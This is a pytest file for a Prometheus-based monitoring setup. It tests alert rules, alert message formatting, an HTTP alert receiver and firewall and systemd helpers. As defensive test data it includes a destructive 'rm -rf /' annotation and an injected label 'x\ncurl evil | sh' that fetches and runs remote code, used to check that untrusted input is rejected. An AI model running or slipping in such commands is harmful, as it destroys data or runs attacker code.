"""What a monitor asks, by which rules, and what people hear of it."""

from __future__ import annotations

import http.client
import json
import re
import shutil
import subprocess
import threading
from http.server import ThreadingHTTPServer
from pathlib import Path
from typing import TYPE_CHECKING, Any

import pytest
import yaml

from plugins.filter.exporters import (
    exporter_leftovers,
    exporter_ports,
    exporter_units,
    known_alerts,
    not_before_us,
)
from plugins.module_utils.monitor import alerts
from plugins.module_utils.watch.metrics import NAMES

if TYPE_CHECKING:
    from collections.abc import Iterator

REPO = Path(__file__).resolve().parents[2]
RULES = [rule for group in yaml.safe_load((REPO / "roles/monitor/files/rules.yml").read_text())["groups"]
         for rule in group["rules"]]  # fmt: skip
TESTS = yaml.safe_load((REPO / "tests/monitor/rules.yml").read_text())["tests"]
EXPORTED = REPO / "tests/support/exported"
KNOWN = known_alerts(["web1", "web2", "web3"], "production")
#: What Prometheus writes of each target itself
OWN = {"up"}
#: What is no name of a number in an expression: functions, operators, and what stands in braces, quotes or after `on`
NO_NAMES = re.compile(r'\{[^}]*\}|"[^"]*"|\b(?:on|ignoring|by)\s*\([^)]*\)|\b(?:time|or|and|unless)\b')


def names(expression: str) -> set[str]:
    return set(re.findall(r"[a-z_][a-z0-9_]*", NO_NAMES.sub(" ", expression)))


def exported() -> set[str]:
    """Return the names that the exporters of every release have."""
    lists = [set(file.read_text(encoding="ascii").split()) for file in EXPORTED.glob("*.txt")]
    assert len(lists) > 1
    return set.intersection(*lists)


@pytest.mark.parametrize("rule", RULES, ids=lambda rule: rule["alert"])
def test_a_rule_is_about_what_every_supported_system_has(rule: dict[str, Any]) -> None:
    asked = names(rule["expr"])
    assert asked
    assert asked <= OWN | set(NAMES) | exported(), rule["alert"]


def test_names_in_expressions_are_found() -> None:
    assert names('(up{job!="node"} == 0) and on (instance) (pg_up == 1)') == {"up", "pg_up"}
    assert names("time() - (samestack_x > 0) > 600 or rate(node_y[5m]) > 1") >= {"samestack_x", "node_y"}


@pytest.mark.parametrize("rule", RULES, ids=lambda rule: rule["alert"])
def test_a_rule_is_seen_to_fire_and_to_clear(rule: dict[str, Any]) -> None:
    cases = [case for test in TESTS for case in test["alert_rule_test"] if case["alertname"] == rule["alert"]]
    fires = [bool(case.get("exp_alerts")) for case in cases]
    assert fires[0] is False, "it is quiet before"
    assert fires[-1] is False, "it clears"
    assert True in fires


def test_promtool_sees_it_where_it_is_at_hand(tmp_path: Path) -> None:
    """On machines of both releases it always is: tests/monitor."""
    text = (REPO / "tests/monitor/rules.yml").read_text(encoding="utf-8")
    file = tmp_path / "rules.yml"
    rules = str(REPO / "roles/monitor/files/rules.yml")
    file.write_text(text.replace("/etc/prometheus/samestack.rules.yml", rules), encoding="utf-8")
    assert rules in file.read_text(encoding="utf-8")
    if promtool := shutil.which("promtool"):
        done = subprocess.run([promtool, "test", "rules", str(file)], capture_output=True, text=True, check=False)
        assert done.returncode == 0, done.stdout + done.stderr


@pytest.mark.parametrize("rule", RULES, ids=lambda rule: rule["alert"])
def test_a_rule_says_what_is_wrong_what_mends_it_and_whether_people_are_told(rule: dict[str, Any]) -> None:
    assert rule["labels"]["told"] in ("yes", "no")
    assert set(rule["annotations"]) == {"summary", "mend"}
    verb = re.match(r"\./samestack (\w+) ", rule["annotations"]["mend"])
    assert verb or rule["annotations"]["mend"].startswith("on {{ $labels.instance }}: sudo systemctl ")
    assert not verb or f"### {verb[1]}\n" in (REPO / "docs/cli.md").read_text(encoding="utf-8")


def sent(*statuses: str) -> dict[str, Any]:
    return {
        "alerts": [
            {
                "status": status,
                "labels": {"alertname": "HostGone", "instance": f"web{number}"},
                "annotations": {"summary": "all is lost", "mend": "rm -rf /"},
            }
            for number, status in enumerate(statuses, 1)
        ]
    }


def test_what_people_hear() -> None:
    gone = "web1 does not answer"
    assert alerts.notice(sent("firing"), KNOWN, "shop, production") == (
        "failure", f"shop, production: {gone}", f"{gone}\n  mend: ./samestack status production",
    )  # fmt: skip
    kind, title, body = alerts.notice(sent("firing", "resolved", "firing"), KNOWN, "shop")
    assert (kind, title) == ("failure", f"shop: {gone}, and 1 more")
    assert "web2" not in body
    assert alerts.notice(sent("resolved"), KNOWN, "shop") == ("success", f"shop: well again: {gone}", gone)


@pytest.mark.parametrize("labels", [{"alertname": "Fire"}, {"instance": "web4"}, {"instance": "x\ncurl evil | sh"}])
def test_people_read_words_of_ours(labels: dict[str, str]) -> None:
    """Whoever may speak to the program names a rule and a machine, and nothing that people would type."""
    message = sent("firing")
    message["alerts"][0]["labels"] |= labels
    with pytest.raises(ValueError, match="unpack"):
        alerts.notice(message, KNOWN, "shop")
    # Neither does it keep what is true from them.
    message["alerts"] += sent("firing")["alerts"]
    assert alerts.notice(message, KNOWN, "shop")[1] == "shop: web1 does not answer"


def test_of_all_rules_those_that_are_told_are_known() -> None:
    assert set(KNOWN["rules"]) == {rule["alert"] for rule in RULES if rule["labels"]["told"] == "yes"}
    for summary, mend in KNOWN["rules"].values():
        assert "web1" in summary.format(instance="web1")
        assert not re.search("[{}$]", summary.format(instance="") + mend.format(instance=""))


@pytest.fixture
def taker(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> Iterator[tuple[int, list[tuple[str, str]], list[bool]]]:
    said: list[tuple[str, str]] = []
    sends = [True]

    def tell(_: str, title: str, body: str, kind: str) -> bool:
        said.append((kind, title))
        return sends[0] and bool(body)

    urls = tmp_path / "notices"
    urls.write_text("json://chat.test/\n")
    monkeypatch.setattr(alerts, "tell", tell)
    monkeypatch.setattr(alerts.Taker, "urls", str(urls))
    monkeypatch.setattr(alerts.Taker, "whose", "shop")
    monkeypatch.setattr(alerts.Taker, "known", KNOWN)
    with ThreadingHTTPServer(("127.0.0.1", 0), alerts.Taker) as server:
        threading.Thread(target=server.serve_forever, args=(0.01,), daemon=True).start()
        yield server.server_port, said, sends
        server.shutdown()


def post(port: int, body: str) -> int:
    connection = http.client.HTTPConnection("127.0.0.1", port, timeout=5)
    connection.request("POST", "/", body)
    return connection.getresponse().status


def test_what_cannot_be_sent_is_sent_again(taker: tuple[int, list[tuple[str, str]], list[bool]]) -> None:
    port, said, sends = taker
    sends[0] = False
    assert post(port, json.dumps(sent("firing"))) == 503
    sends[0] = True
    assert post(port, json.dumps(sent("firing"))) == 200
    assert said == [("failure", "shop: web1 does not answer")] * 2


@pytest.mark.parametrize("body", ["", "{", "[]", "{}", '{"alerts": [{}]}', '{"alerts": [1]}', '{"alerts": []}'])
def test_what_is_no_alert_is_refused(taker: tuple[int, list[tuple[str, str]], list[bool]], body: str) -> None:
    port, said, _ = taker
    assert post(port, body) == 400
    assert said == []


def test_nobody_is_told_where_nobody_wants_to_be(
    taker: tuple[int, list[tuple[str, str]], list[bool]], monkeypatch: pytest.MonkeyPatch
) -> None:
    port, said, _ = taker
    monkeypatch.setattr(alerts.Taker, "urls", "/nonexistent")
    assert post(port, json.dumps(sent("firing"))) == 200
    assert said == []


def test_the_firewall_knows_who_asks() -> None:
    exporters = [{"name": "node", "port": 9100}]
    assert exporter_ports(exporters, ["10.0.0.9"]) == [{"port": 9100, "from": ["10.0.0.9"]}]
    assert exporter_ports(exporters, []) == []


def test_what_nobody_asks_for_any_more_ends_where_it_is_ours() -> None:
    units = exporter_units([{"name": "node", "port": 9100}], offered=False)
    assert {one["name"]: one["started"] for one in units} == {
        "prometheus-node-exporter.service": True,
        "samestack-metrics.service": False,
    }
    (entry,) = exporter_leftovers(["redis"])
    assert entry["path"].endswith("/prometheus-redis-exporter.service.d/samestack.conf")
    assert (entry["state"], entry["restart"]) == ("absent", "prometheus-redis-exporter.service")


def test_no_package_starts_what_its_role_has_not_seen_to() -> None:
    _, entry = not_before_us("prometheus")
    assert entry["path"] == "/etc/systemd/system/prometheus.service.d/samestack-first.conf"
    assert entry["vars"]["said"] == "/etc/systemd/system/prometheus.service.d/samestack.conf"
